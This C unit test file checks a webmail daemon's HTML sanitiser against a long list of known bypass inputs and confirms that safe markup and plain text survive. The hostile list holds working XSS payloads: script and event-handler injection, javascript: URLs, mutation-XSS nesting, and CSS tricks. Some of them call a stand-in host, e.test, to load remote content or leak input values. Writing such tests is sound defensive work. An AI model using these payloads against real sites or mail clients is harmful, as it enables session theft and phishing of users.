/* SPDX-License-Identifier: ISC */
/* SPDX-FileCopyrightText: The Fourpost authors */
/* The sanitiser against what is known to have passed others. */
#include <check.h>
#include <errno.h>
#include <stdlib.h>

#include "webmaild/html_sanitize.h"

/* What the output may consist of. Anything else in it fails, whatever it is. */
static const char *const tags[] = {
	"html", "head", "meta", "style", "body", "a", "b", "br", "details", "div", "font", "img", "p", "span", "table", "tbody", "td", "tr", "i", "hr",
};
static const char *const names[] = {
	"align", "alt", "background", "bgcolor", "charset", "class", "color", "content", "height", "href", "id", "name", "open", "rel", "src", "style",
	"target", "title", "width",
};
/* Nowhere in a style sheet or style attribute. */
static const char *const css[] = {
	"position", "expression", "behavior", "binding", "@import", "@font-face", "http:", "https:", "//", "<", "\\", "javascript", "var(",
};

static const char *const hostile[] = {
	"<script>alert(1)</script>", "<SCRIPT SRC=//e.test/x.js></SCRIPT>", "<scr<script>ipt>alert(1)</scr</script>ipt>",
	"<img src=x onerror=alert(1)>", "<img/src=x/onerror=alert(1)>", "<img src=\"x\" \nonerror\n=\nalert(1)>",
	"<body onload=alert(1)>", "<div onmouseover=\"alert(1)\">x</div>", "<a href=javascript:alert(1)>x</a>",
	"<a href=\" javascript:alert(1)\">x</a>", "<a href=\"java\tscript:alert(1)\">x</a>", "<a href=\"java&#x0A;script:alert(1)\">x</a>",
	"<a href=\"&#1;javascript:alert(1)\">x</a>", "<a href=\"JaVaScRiPt:alert(1)\">x</a>", "<a href=\"javascript&colon;alert(1)\">x</a>",
	"<a href=vbscript:msgbox(1)>x</a>", "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
	"<img src=\"data:text/html;base64,PHNjcmlwdD4=\">", "<img src=\"data:image/svg+xml;base64,PHN2Zz4=\">",
	"<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
	"<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>", "<svg><use href=\"data:image/svg+xml,x\"/></svg>",
	"<svg><foreignObject><iframe src=x></iframe></foreignObject></svg>", "<svg><feImage href=http://e.test/x></svg>",
	"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
	"<math><annotation-xml encoding=\"text/html\"><svg><script>alert(1)</script></svg></annotation-xml></math>",
	"<form><math><mtext></form><form><mglyph><svg><mtext><textarea><path id=\"</textarea><img onerror=alert(1) src=1>\">",
	"<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
	"<style><img src=x onerror=alert(1)></style>", "<style></style><script>alert(1)</script></style>",
	"<title><a href=\"</title><img src=x onerror=alert(1)>\">", "<textarea><a title=\"</textarea><img src=x onerror=alert(1)>\">",
	"<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\"></xmp>", "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
	"<iframe src=javascript:alert(1)>", "<object data=javascript:alert(1)></object>", "<embed src=//e.test/x.swf>",
	"<base href=https://e.test/>", "<link rel=stylesheet href=//e.test/x.css>", "<meta http-equiv=refresh content=\"0;url=//e.test\">",
	"<form action=//e.test><input type=password name=p><button formaction=javascript:alert(1)>go</button></form>",
	"<isindex action=javascript:alert(1)>", "<video src=x onerror=alert(1)></video>", "<audio><source onerror=alert(1)></audio>",
	"<img src=x srcset=\"https://e.test/x 2x\">", "<picture><source srcset=//e.test/x><img src=//e.test/y></picture>",
	"<table background=\"http://e.test/x\"><td background=//e.test/y>", "<input type=image src=//e.test/x>",
	"<div style=\"position:fixed;top:0;left:0;width:100%;height:100%\">x</div>", "<div style=\"position: fixed !important\">x</div>",
	"<div style=\"pos\\69tion:fixed\">x</div>", "<div style=\"/*x*/position/**/:fixed\">x</div>",
	"<div style=\"background:url(http://e.test/x)\">x</div>", "<div style=\"background:url('javascript:alert(1)')\">x</div>",
	"<div style=\"background:u\\72l(http://e.test/x)\">x</div>", "<div style=\"width:expression(alert(1))\">x</div>",
	"<div style=\"width:exp/**/ression(alert(1))\">x</div>", "<div style=\"-moz-binding:url(http://e.test/x)\">x</div>",
	"<div style=\"behavior:url(x.htc)\">x</div>", "<div style=\"background:url(http://e.test/x\">unclosed</div>",
	"<div style=\"color:red;background-image:image-set('http://e.test/x' 1x)\">x</div>", "<div style=\"list-style:url(//e.test/x)\">x</div>",
	"<div style=\"color:var(--x);--x:url(http://e.test)\">x</div>", "<div style='font-family:\"</style><script>alert(1)</script>\"'>x</div>",
	"<style>@import url(http://e.test/x.css);</style>", "<style>@import 'http://e.test/x.css';p{color:red}</style>",
	"<style>@font-face{font-family:x;src:url(http://e.test/x)}</style>", "<style>p{position:fixed}</style>",
	"<style>p{background:url(http://e.test/x)}</style>", "<style>input[value^=a]{background:url(//e.test/a)}</style>",
	"<style>@media screen{p{background:url(http://e.test/x);position:absolute}}</style>",
	"<style>p{content:'</style><script>alert(1)</script>'}</style>", "<style>p{color:red;}}body{position:fixed}</style>",
	"<!--><script>alert(1)</script>-->", "<!--[if IE]><script>alert(1)</script><![endif]-->", "<![CDATA[<script>alert(1)</script>]]>",
	"<?xml version=\"1.0\"?><script>alert(1)</script>", "<template><script>alert(1)</script></template>",
	"<select><template><img src=x onerror=alert(1)></template></select>", "<p id=\"x\" onclick=\"alert(1)\" style=\"x:expression(1)\">t</p>",
	"<a href=\"https://ok.test/\" onclick=alert(1) ping=https://e.test>x</a>", "<keygen autofocus onfocus=alert(1)>",
	"<details open ontoggle=alert(1)>x</details>", "<marquee onstart=alert(1)>x</marquee>", "<b title='\"><script>alert(1)</script>'>x</b>",
	"<img alt=\"`><script>alert(1)</script>\" src=x>", "<img src='cid:x\"onerror=alert(1) y=\"'>", "<font color='\"><script>alert(1)</script>'>x</font>",
	"<a href='https://ok.test/\"><script>alert(1)</script>'>x</a>", "<p style=\"background:url('data:image/png;base64,AA)')\">x</p>",
	"<plaintext><script>alert(1)</script>", "<frameset><frame src=javascript:alert(1)></frameset>", "<layer src=//e.test></layer>",
};

static void
sanitize(const char *html, bool images, struct buf *out, struct html_counts *counts)
{
	struct html_options options = { images, SPAN("MARK") };

	ck_assert_int_eq(html_sanitize(span_of(html), &options, out, counts), 0);
}

static bool
is_among(struct span word, const char *const *list, size_t count)
{
	for (size_t i = 0; i < count; i++)
		if (span_eq(word, span_of(list[i])))
			return true;
	return false;
}
#define AMONG(word, list) is_among((word), (list), sizeof(list) / sizeof((list)[0]))

static bool
is_css_safe(struct span text)
{
	for (size_t i = 0; i < sizeof(css) / sizeof(css[0]); i++)
		if (span_ifind(text, span_of(css[i])) >= 0)
			return false;
	return true;
}

static bool
is_value_safe(struct span name, struct span value)
{
	if (span_find(value, SPAN("<")) >= 0 || span_find(value, SPAN(">")) >= 0)
		return false;
	if (span_eq(name, SPAN("style")))
		return is_css_safe(value);
	if (span_eq(name, SPAN("src")) || span_eq(name, SPAN("background")))
		return span_starts(value, SPAN("data:image/gif;base64,")) || span_starts(value, SPAN("data:image/png;base64,")) ||
		    span_starts(value, SPAN("MARK"));
	if (span_eq(name, SPAN("href")))
		return span_starts(value, SPAN("https://")) || span_starts(value, SPAN("#m-"));
	return true;
}

/* The output is written by one writer, so it reads as one grammar: text, </name>, <name( attr="value")*>. */
static bool
is_tag_safe(struct span tag)
{
	ptrdiff_t space = span_chr(tag, ' ');
	struct span word = span_take(&tag, space < 0 ? tag.len : (size_t)space);

	if (word.len > 0 && word.ptr[0] == '/')
		return AMONG(span_skip(word, 1), tags) && tag.len == 0;
	if (!AMONG(word, tags))
		return false;
	while (tag.len > 0) {
		struct span name, value;

		if (tag.ptr[0] != ' ' || !span_split(&tag, '"', &name) || !span_ends(name, SPAN("=")) || !span_split(&tag, '"', &value))
			return false;
		name = span_make(name.ptr + 1, name.len - 2);
		if (!AMONG(name, names) || !is_value_safe(name, value))
			return false;
	}
	return true;
}

static bool
is_document_safe(struct span text)
{
	struct span part;

	ck_assert(span_starts(text, SPAN("<!DOCTYPE html>")));
	text = span_skip(text, sizeof("<!DOCTYPE html>") - 1);
	while (span_split(&text, '<', &part)) {
		if (!span_split(&text, '>', &part))
			return true;
		if (!is_tag_safe(part))
			return false;
		if (span_eq(part, SPAN("style"))) {
			ptrdiff_t end = span_find(text, SPAN("</style>"));

			/* Of '>' the style sheets have child combinators only; "<" there would be the way out. */
			if (end < 0 || !is_css_safe(span_make(text.ptr, (size_t)end)))
				return false;
			text = span_skip(text, (size_t)end);
		}
	}
	return true;
}

START_TEST(nothing_dangerous_is_left)
{
	struct buf out = BUF_INIT(HTML_OUTPUT_MAX), again = BUF_INIT(HTML_OUTPUT_MAX);
	struct html_counts counts;

	sanitize(hostile[_i], false, &out, &counts);
	ck_assert_msg(is_document_safe(buf_get(&out)), "%s gives %s", hostile[_i], buf_cstr(&out));
	/* Read again it does not change its mind: what a parser sees is what was written. */
	sanitize(buf_cstr(&out), false, &again, &counts);
	ck_assert(is_document_safe(buf_get(&again)));
	buf_free(&out);
	buf_free(&again);
}
END_TEST

static const struct {
	const char *html, *body; /* body: what must be found in the output */
	unsigned remote;
	bool images;
} kept[] = {
	{ "<p class=\"a b\" id=c>x &amp; <b>y</b></p>", "<p class=\"m-a m-b\" id=\"m-c\">x &amp; <b>y</b></p>", 0, false },
	{ "<a href=\"https://a.test/?x=1&y=2\">l</a>",
	    "<a href=\"https://a.test/?x=1&amp;y=2\" target=\"_blank\" rel=\"noopener noreferrer\">l</a>", 0, false },
	{ "<a href=\"mailto:a@b.test\">m</a>", "href=\"mailto:a@b.test\"", 0, false },
	{ "<a href=\"#top\">t</a><a name=top></a>", "<a href=\"#m-top\">t</a><a name=\"m-top\"></a>", 0, false },
	{ "<img src=\"http://a.test/i.png\" alt=\"A\" width=10>", "<img alt=\"A\" width=\"10\">", 1, false },
	{ "<img src=\"http://a.test/i.png\">", "<img src=\"https://a.test/i.png\">", 1, true },
	{ "<img src=\"//a.test/i.png\"><img src=https://b.test/>", "<img src=\"https://b.test/\">", 2, true },
	{ "<img src=\"cid:a@b\">", "<img src=\"MARK614062|\">", 0, false },
	{ "<img src=\"data:image/png;base64,AAAA\">", "<img src=\"data:image/png;base64,AAAA\">", 0, false },
	{ "<td background=\"https://a.test/b.png\">", "", 0, false },
	{ "<table background=\"https://a.test/b.png\"><tr><td>x</table>", "<table background=\"https://a.test/b.png\">", 1, true },
	{ "<p style=\"color:RED; background:url(https://a.test/x.png) no-repeat\">x</p>",
	    "style=\"color:RED;background:url(&#39;https://a.test/x.png&#39;) no-repeat;\"", 1, true },
	{ "<p style=\"background:#fff url(https://a.test/x.png)\">x</p>", "style=\"background:#fff none;\"", 1, false },
	{ "<style>.a > p:hover, #b{color:rgb(1, 2, 3)}</style>", ".m-a > p:hover, #m-b{color:rgb(1, 2, 3);}", 0, false },
	{ "<style>@media (max-width: 600px){.a{width:100%!important}}</style>", "@media (max-width: 600px){.m-a{width:100%!important;}", 0, false },
	{ "<font color=red size=+1 face=\"Arial\">x</font>", "<font color=\"red\" size=\"+1\" face=\"Arial\">x</font>", 0, false },
	{ "<o:p>word</o:p><custom>y</custom>", "wordy", 0, false },
	{ "<p>\xe4\xb8\xad\xe6\x96\x87</p>", "<p>\xe4\xb8\xad\xe6\x96\x87</p>", 0, false },
	{ "<body bgcolor=\"#eee\" style=\"margin:0\"><p>x", "<body bgcolor=\"#eee\" style=\"margin:0;\"><p>x</p></body>", 0, false },
	{ "", "<body></body>", 0, false },
};

START_TEST(what_is_safe_stays)
{
	struct buf out = BUF_INIT(HTML_OUTPUT_MAX);
	struct html_counts counts;

	sanitize(kept[_i].html, kept[_i].images, &out, &counts);
	ck_assert_msg(strstr(buf_cstr(&out), kept[_i].body) != NULL, "%s gives %s", kept[_i].html, buf_cstr(&out));
	ck_assert_uint_eq(counts.remote_images, kept[_i].remote);
	buf_free(&out);
}
END_TEST

START_TEST(bounds_hold)
{
	struct buf deep = BUF_INIT(HTML_INPUT_MAX), out = BUF_INIT(HTML_OUTPUT_MAX);
	struct html_options options = { false, SPAN_NULL };
	struct html_counts counts;

	for (size_t i = 0; i < 20000; i++)
		(void)buf_str(&deep, "<div>");
	(void)buf_str(&deep, "end");
	ck_assert_int_eq(html_sanitize(buf_get(&deep), &options, &out, &counts), 0);
	ck_assert_ptr_nonnull(strstr(buf_cstr(&out), "end"));
	buf_clear(&deep);
	for (size_t i = 0; i <= HTML_TAGS_MAX; i++)
		(void)buf_str(&deep, "<b>");
	ck_assert_int_eq(html_sanitize(buf_get(&deep), &options, &out, &counts), -E2BIG);
	buf_free(&deep);
	buf_free(&out);
	/* An answer that does not fit is refused whole. */
	out = BUF_INIT(100);
	ck_assert_int_eq(html_sanitize(SPAN("<p>x</p>"), &options, &out, &counts), -EMSGSIZE);
	buf_free(&out);
}
END_TEST

static const struct {
	const char *text, *part;
	struct flowed_format format;
} texts[] = {
	{ "a <b> & \"c\"", "a &lt;b&gt; &amp; &quot;c&quot;", { false, false } },
	{ "see https://a.test/x?y=1&z=2.", "<a href=\"https://a.test/x?y=1&amp;z=2\" target=\"_blank\" rel=\"noopener noreferrer\">https://a.test/x?y=1&amp;z=2</a>.",
	    { false, false } },
	{ "(https://a.test/x_(y))", "(<a href=\"https://a.test/x_(y)\"", { false, false } },
	{ "www.a.test", "<a href=\"https://www.a.test\"", { false, false } },
	{ "mail bob@a.test now", "mail <a href=\"mailto:bob@a.test\"", { false, false } },
	{ "javascript:alert(1)", "javascript:alert(1)\n</div>", { false, false } },
	{ "https://a.test/\"onmouseover=alert(1)", "href=\"https://a.test/\" target", { false, false } },
	{ "> one\n> > two\nthree", "<blockquote><div class=\"text\">one\n</div><blockquote><div class=\"text\">two\n</div></blockquote></blockquote>"
	                           "<div class=\"text\">three\n</div>", { false, false } },
	{ "soft \nbreak", "soft break", { true, false } },
	{ "del \nsp", "delsp", { true, true } },
	{ "-- \nsig", "-- \nsig", { true, false } },
	{ " >not quoted", "&gt;not quoted", { true, false } },
};

START_TEST(text_is_text)
{
	struct buf out = BUF_INIT(HTML_OUTPUT_MAX);

	html_text_begin(&out);
	ck_assert_int_eq(html_text_put(span_of(texts[_i].text), texts[_i].format, &out), 0);
	ck_assert_int_eq(html_text_end(&out), 0);
	ck_assert_msg(strstr(buf_cstr(&out), texts[_i].part) != NULL, "%s gives %s", texts[_i].text, buf_cstr(&out));
	buf_free(&out);
}
END_TEST

#define COUNT(table) ((int)(sizeof(table) / sizeof((table)[0])))

int
main(void)
{
	Suite *suite = suite_create("html_sanitize");
	TCase *tests = tcase_create("html_sanitize");
	SRunner *runner = srunner_create(suite);
	int failed;

	tcase_set_timeout(tests, 60);
	tcase_add_loop_test(tests, nothing_dangerous_is_left, 0, COUNT(hostile));
	tcase_add_loop_test(tests, what_is_safe_stays, 0, COUNT(kept));
	tcase_add_test(tests, bounds_hold);
	tcase_add_loop_test(tests, text_is_text, 0, COUNT(texts));
	suite_add_tcase(suite, tests);
	srunner_run_all(runner, CK_NORMAL);
	failed = srunner_ntests_failed(runner);
	srunner_free(runner);
	return failed == 0 ? EXIT_SUCCESS : EXIT_FAILURE;
}
